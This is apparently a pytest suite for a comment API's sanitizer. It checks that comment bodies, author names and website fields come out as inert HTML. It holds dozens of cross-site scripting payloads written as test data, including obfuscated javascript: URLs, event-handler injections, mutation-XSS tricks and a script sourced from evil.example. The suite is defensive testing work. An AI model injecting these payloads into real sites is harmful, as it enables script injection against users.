"""Hostile markup in body, name and website comes out inert (the HTML is parsed, never grepped)."""
import html.parser

import pytest

KEY = "news/xss"
LIST = f"/api/v1/threads/{KEY}/comments"
ACTIVE_ELEMENTS = {"script", "iframe", "svg", "math", "object", "embed", "style", "img", "form", "input",
                   "button", "link", "meta", "base", "frame", "frameset", "video", "audio", "source",
                   "template", "noscript", "xmp", "textarea", "select", "applet", "isindex", "marquee"}
ALLOWED_ELEMENTS = {"a", "abbr", "acronym", "b", "blockquote", "cite", "code", "del", "em", "i", "q", "s",
                    "strike", "strong", "p", "br"}
ALLOWED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "abbr": {"title"}, "acronym": {"title"},
                      "blockquote": {"cite"}, "del": {"datetime"}, "q": {"cite"}}
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "xlink:href", "background", "poster"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")

BODY_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=data:text/html,x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\u200bscript:alert(1)\">x</a>",
    "<a href=\"java\u00adscript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#10;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"http://ok.example\" onclick=\"alert(1)\" onmouseover=alert(2)>x</a>",
    "<a href=\"http://ok.example\" target=_blank rel=opener>x</a>",
    "<a title='\" onmouseover=alert(1) x=\"'>x</a>",
    "<b onmouseover=alert(1)>عريض</b>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<q cite=\"data:text/html,x\">x</q>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<script>alert(1)--><script>alert(2)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=javascript:alert(1)//>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<a href=http://ok.example/\"onmouseover=\"alert(1)>x</a>",
    "javascript:alert(1)",
    "www.evil.example/\"><script>alert(1)</script>",
    "<code><a href=javascript:alert(1)>x</a></code>",
    "\u202e<script>alert(1)</script>",
]


class Inspector(html.parser.HTMLParser):
    """Collects everything active or not allowed in a fragment of sanitized HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.links = [], []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_ELEMENTS or tag not in ALLOWED_ELEMENTS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            elif name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"<{tag}> attribute {name}")
            if name in URL_ATTRIBUTES and value is not None:
                visible = "".join(ch for ch in value if ch.isprintable() and not ch.isspace()).lower()
                visible = visible.replace("\u200b", "").replace("\u00ad", "")
                if ":" in visible.split("/")[0] and not visible.startswith(SAFE_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "a":
            self.links.append(dict(attrs))

    handle_startendtag = handle_starttag


def inspect(fragment):
    parser = Inspector()
    parser.feed(fragment)
    parser.close()
    return parser


def assert_inert(fragment):
    found = inspect(fragment)
    assert not found.problems, (fragment, found.problems)
    for link in found.links:
        assert set((link.get("rel") or "").split()) == {"nofollow", "ugc", "noopener"}, (fragment, link)
        assert "target" not in link


def html_fields(document):
    """Every value under a key ending in 'html', anywhere in a JSON document."""
    out = []

    def walk(node, key=""):
        if isinstance(node, dict):
            for k, v in node.items():
                walk(v, k)
        elif isinstance(node, list):
            for v in node:
                walk(v, key)
        elif isinstance(node, str) and key.endswith("html"):
            out.append(node)

    walk(document)
    return out


def test_the_inspector_sees_active_markup():
    for fragment in ("<script>x</script>", "<a href=' java\tscript:x' rel='nofollow ugc noopener'>",
                     "<b onclick=x>", "<svg/onload=x>", "<a href=x>", "<a href='data:x'>y</a>",
                     "<a href='http://x' rel=nofollow>"):
        with pytest.raises(AssertionError):
            assert_inert(fragment)
    assert_inert('<p><a href="https://x.example" rel="nofollow ugc noopener">x</a> <b>y</b></p>')


@pytest.mark.parametrize("vector", BODY_VECTORS, ids=range(len(BODY_VECTORS)))
def test_body_vectors_come_out_inert(post, client, vector):
    response = post(KEY, body=f"تعليق {vector} نهاية")
    assert response.status_code == 201, response.get_json()
    for fragment in html_fields(response.get_json()):
        assert_inert(fragment)
    listing = client.get(LIST).get_json()
    fragments = html_fields(listing)
    assert fragments
    for fragment in fragments:
        assert_inert(fragment)


def test_allowed_markup_survives_and_links_get_rel(post):
    body = ('<b>عريض</b> <i>مائل</i> <blockquote cite="https://source.example/a">اقتباس</blockquote> '
            '<a href="https://ok.example/a" title="عنوان">رابط</a> <code>x &lt; y</code> '
            "<abbr title=\"منظمة\">م</abbr> <del datetime=\"2026-01-01\">قديم</del> <q>قول</q> "
            "https://auto.example.com/path and plain text")
    html = post(KEY, body=body).get_json()["comment"]["body_html"]
    parsed = inspect(html)
    assert not parsed.problems
    hrefs = [link.get("href") for link in parsed.links]
    assert "https://ok.example/a" in hrefs and "https://auto.example.com/path" in hrefs
    assert all(set(link["rel"].split()) == {"nofollow", "ugc", "noopener"} for link in parsed.links)
    for tag in ("<b>", "<i>", "<blockquote", "<code>", "<abbr", "<del", "<q>"):
        assert tag in html


def test_unsafe_link_keeps_its_text_but_not_its_href(post):
    html = post(KEY, body='<a href="java\u200bscript:alert(1)">اضغط هنا</a>').get_json()["comment"]["body_html"]
    parsed = inspect(html)
    assert "اضغط هنا" in html
    assert all("href" not in link for link in parsed.links)


@pytest.mark.parametrize("name", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                                  "\"><svg onload=alert(1)>", "<b onmouseover=alert(1)>x</b>"])
def test_name_is_plain_text_never_html(post, client, name):
    response = post(KEY, name=name)
    assert response.status_code == 201
    # The name travels as JSON text for the widget to set with textContent; it is in no HTML field.
    assert response.get_json()["comment"]["name"] == name
    listing = client.get(LIST).get_json()
    assert [c["name"] for c in listing["comments"]] == [name]
    for fragment in html_fields(listing):
        assert_inert(fragment)
        assert "alert" not in fragment


@pytest.mark.parametrize("website", [
    "javascript:alert(1)", " javascript:alert(1)", "java\u200bscript:alert(1)", "data:text/html,x",
    "vbscript:x", "jav&#x09;ascript:alert(1)", "http://ok.example/\"onmouseover=\"alert(1)",
    "https://ok.example/<script>", "//evil.example",
])
def test_hostile_websites_are_refused(post, problem, website):
    body = problem(post(KEY, website=website), 422)
    assert set(body["errors"]) == {"website"}


def test_published_websites_are_http_only(post, client):
    post(KEY, website="https://reader.example/page?x=1")
    post(KEY, website="HTTP://Reader.example")
    post(KEY)
    for view in client.get(LIST).get_json()["comments"]:
        assert view["website"] is None or view["website"].lower().startswith(("http://", "https://"))
